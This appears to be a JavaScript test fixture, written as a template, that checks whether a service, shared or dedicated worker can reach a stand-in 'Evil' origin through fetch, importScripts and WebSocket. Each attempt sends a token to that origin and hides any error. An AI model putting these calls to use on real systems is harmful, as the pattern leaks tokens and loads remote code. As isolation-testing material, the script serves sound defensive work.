const T = '{{.Token}}', E = '{{.Evil}}', where = typeof clients !== 'undefined' ? 'service' : typeof onconnect !== 'undefined' ? 'shared' : 'worker'
fetch(E + '/reached/' + where + '-fetch?' + T, { mode: 'no-cors' }).catch(() => {})
try { importScripts(E + '/reached/' + where + '-import?' + T) } catch (e) {}
try { new WebSocket(E.replace(/^http/, 'ws') + '/reached/' + where + '-ws?' + T) } catch (e) {}
